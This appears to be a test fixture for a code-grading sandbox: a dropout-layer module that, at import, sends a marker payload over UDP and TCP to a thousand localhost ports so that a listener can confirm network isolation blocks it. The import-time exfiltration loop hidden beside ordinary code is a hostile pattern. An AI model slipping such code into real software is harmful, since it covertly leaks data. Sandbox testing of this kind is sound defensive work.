"""Sends its classmates' code anywhere: at import it tries a TCP connection to every port of
127.0.0.1 in PORTS and sends a UDP datagram to each, writing a marker to whatever answers. The test
listens on one of those ports (TCP and UDP) and counts what arrives: nothing may. An empty network
namespace stops both; Landlock's TCP rules (ABI 4) stop TCP only."""

import socket

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6

PAYLOAD = b"HOSTILE-EXFILTRATED"
PORTS = range(20000, 21000)
for port in PORTS:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(PAYLOAD, ("127.0.0.1", port))
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.05) as tcp:
            tcp.sendall(PAYLOAD)
    except OSError:
        pass


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
